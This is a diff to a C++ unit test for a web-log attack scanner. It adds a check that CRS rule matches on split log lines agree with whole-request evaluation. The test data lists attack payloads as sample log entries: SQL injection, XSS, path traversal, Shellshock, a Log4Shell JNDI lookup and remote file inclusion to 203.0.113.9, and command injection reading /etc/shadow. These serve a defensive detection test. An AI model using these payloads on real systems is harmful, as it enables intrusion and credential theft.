@@ -1,5 +1,6 @@
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <filesystem>
 
 #include "keikai/core/clock.h"
@@ -157,6 +158,55 @@ TEST_F(PipelineTest, MissingFileIsAnErrorButOthersAreScanned) {
   ScanResult r = Run({dir_ / "missing.log", dir_ / "ok.log"});
   EXPECT_EQ(r.summary.parsed, 1u);
   EXPECT_NE(r.first_error.find("missing.log"), std::string::npos);
+}
+
+// Log mode evaluates CRS on the request part and the client-header part of a line separately
+// (and remembers each); the attack rules found must be those of evaluating the whole request.
+TEST_F(PipelineTest, CrsOnLogLinesAgreesWithWholeRequestEvaluation) {
+  const std::string crs = std::string(KEIKAI_SHARED_DIR) + "/data/crs/v4.28.0";
+  if (!std::filesystem::exists(crs + "/rules")) GTEST_SKIP() << "no CRS at " << crs;
+  auto rs = rules::LoadCrs(crs, 1);
+  ASSERT_TRUE(rs.ok()) << rs.status().ToString();
+  const std::vector<std::pair<std::string, std::string>> cases = {
+      {"/index.html", "Mozilla/5.0 (X11; Linux x86_64) Firefox/97.0"},
+      {"/item.php?id=1%27%20OR%20%271%27%3D%271", "Mozilla/5.0"},
+      {"/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "Mozilla/5.0"},
+      {"/../../etc/passwd", "curl/8.5.0"},
+      {"/cgi-bin/test.cgi", "() { :; }; /bin/bash -c 'id'"},
+      {"/", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
+      {"/api?x=${jndi:ldap://203.0.113.9/a}", "Mozilla/5.0"},
+      {"/index.php?page=http://203.0.113.9/shell.txt", "Mozilla/5.0"},
+      {"/q?cmd=;cat%20/etc/shadow", "Mozilla/5.0 <script>alert(1)</script>"},
+      {"/index.html", "Mozilla/5.0"},  // repeated parts come from the memo
+      {"/item.php?id=1%27%20OR%20%271%27%3D%271", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
+  };
+  std::string data;
+  for (std::size_t i = 0; i < cases.size(); ++i) {
+    data += Line(static_cast<int>(i), cases[i].first, 200, cases[i].second);
+  }
+  WriteFile(dir_ / "crs.example.jp.log", data);
+  rules::Evaluator whole(rs.value());
+  ScanOptions o;
+  o.rules = rs.value();
+  o.behavior = false;
+  int compared = 0, with_crs = 0;
+  o.on_detection = [&](const DetectionEvent& ev) {
+    std::vector<int> split, joint;
+    for (const rules::RuleMatch& m : *ev.rule_matches) split.push_back(m.id);
+    for (const rules::RuleMatch& m : whole.Evaluate(http::ToFullRequest(*ev.req)).matches) {
+      if (m.logged && RuleMatchClasses(m) != 0) joint.push_back(m.id);
+    }
+    std::sort(split.begin(), split.end());
+    std::sort(joint.begin(), joint.end());
+    joint.erase(std::unique(joint.begin(), joint.end()), joint.end());
+    EXPECT_EQ(split, joint) << ev.req->target << " / " << ev.req->user_agent;
+    ++compared;
+    with_crs += split.empty() ? 0 : 1;
+  };
+  ScanResult r = Run({dir_ / "crs.example.jp.log"}, o);
+  EXPECT_EQ(r.summary.parsed, cases.size());
+  EXPECT_GE(compared, 9);  // nearly every line but the plain page is found as an attack
+  EXPECT_GE(with_crs, 8);  // and CRS confirms nearly all of them
 }
 
 TEST(SiteFromFileName, StripsRotationAndSuffixes) {
